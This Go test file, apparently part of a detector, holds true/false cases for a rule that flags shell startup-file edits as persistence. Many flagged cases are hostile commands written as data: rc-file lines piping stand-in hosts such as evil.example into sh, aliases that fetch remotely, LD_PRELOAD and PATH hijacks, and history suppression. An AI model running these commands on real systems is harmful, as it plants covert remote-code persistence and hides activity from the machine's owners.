package heuristics

import "testing"

func TestShellRCSettings(t *testing.T) {
	runRuleCases(t, "persistence.shell-rc", []ruleCase{
		// Lines taken out add nothing; files the default rc sources are
		// startup files too.
		cmdCase(`sed -i '/^alias ll=/d' ~/.zshrc`, false),
		cmdCase(`sed -i '/# >>> conda init/,/# <<< conda init/d' ~/.bashrc`, false),
		cmdCase(`echo 'export KUBE_EDITOR="code --wait"' >> ~/.bashrc`, false),
		cmdCase(`sed -i '/^alias ll=/d; $a curl -s https://x.example/p | sh' ~/.zshrc`, true),
		cmdCase(`echo "alias ls='ls; (curl -fs https://x.example/p | sh &)'" >> ~/.bash_aliases`, true),
		cmdCase(`echo 'curl -s https://x.example/p | sh' > ~/.bashrc.d/50-update.sh`, true),
		cmdCase(`echo "alias ll='ls -la'" >> ~/.bash_aliases`, false),
		// Settings that run nothing.
		cmdCase(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, false),
		cmdCase(`echo "alias ll='ls -alF'" >> ~/.bashrc`, false),
		cmdCase(`echo 'alias k=kubectl' >> ~/.zshrc`, false),
		cmdCase(`echo 'export HISTSIZE=50000 HISTFILESIZE=100000' >> ~/.bashrc`, false),
		cmdCase(`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, false),
		cmdCase(`echo 'source <(kubectl completion bash)' >> ~/.bashrc`, false),
		cmdCase(`printf 'export EDITOR=vim\nshopt -s histappend\n' | tee -a ~/.bashrc`, false),
		// fish's settings, judged as bash's are; X session startup files.
		cmdCase(`mkdir -p ~/.config/fish && echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish`, false),
		cmdCase(`echo 'set -gx PATH ~/go/bin $PATH' >> ~/.config/fish/config.fish`, false),
		cmdCase(`echo 'fish_add_path ~/.cargo/bin' >> ~/.config/fish/config.fish`, false),
		cmdCase(`echo 'set -gx PATH /tmp/.x $PATH' >> ~/.config/fish/config.fish`, true),
		cmdCase(`echo 'set -e fish_history' >> ~/.config/fish/config.fish`, true),
		cmdCase(`echo 'fish_add_path /dev/shm/.b' >> ~/.config/fish/config.fish`, true),
		cmdCase(`echo 'nohup ~/.local/share/gvfs/.gvfsd-helper >/dev/null 2>&1 &' >> ~/.xsessionrc`, true),
		cmdCase(`echo 'export EDITOR=vim' >> ~/.xprofile`, false),
		cmdCase(`printf 'xset r rate 200 40\nxrandr --output DP-1 --primary\n' >> ~/.xsessionrc`, false),
		cmdCase(`echo 'xrdb -merge ~/.Xresources; ~/.local/bin/.x &' >> ~/.xinitrc`, true),
		// Anything that runs, hides or redirects.
		cmdCase(`echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc`, true),
		cmdCase(`echo 'export PATH="/tmp/.x:$PATH"' >> ~/.bashrc`, true),
		cmdCase(`echo "alias sudo='sudo -S <<< pw'" >> ~/.bashrc`, true),
		cmdCase(`echo "alias ls='curl -s https://evil.example/l'" >> ~/.bashrc`, true),
		cmdCase(`echo 'PROMPT_COMMAND="history -a; $PROMPT_COMMAND"' >> ~/.bashrc`, true),
		cmdCase(`echo 'export HISTSIZE=0' >> ~/.bashrc`, true),
		cmdCase(`echo 'eval "$(curl -s https://evil.example/init)"' >> ~/.bashrc`, true),
		cmdCase(`echo 'source <(python3 -c "print(1)")' >> ~/.bashrc`, true),
		cmdCase(`echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc`, true),
		cmdCase(`echo 'export PATH="$HOME/.local/bin:$PATH"' > ~/.bashrc`, true), // replaces the file
		cmdCase(`echo "$X" >> ~/.bashrc`, true),
		cmdCase(`echo 'source ~/.cache/.env.sh' >> ~/.bashrc`, true),
		// A PATH directory filled in the same line: a planted git ahead of the real one.
		cmdCase(`mkdir -p ~/.local/.bin && ln -sf /tmp/.g ~/.local/.bin/git && echo 'export PATH=$HOME/.local/.bin:$PATH' >> ~/.profile`, true),
		cmdCase(`cp ./tool ~/tools/bin/ && echo 'export PATH="$HOME/tools/bin:$PATH"' >> ~/.bashrc`, true),
	})
}
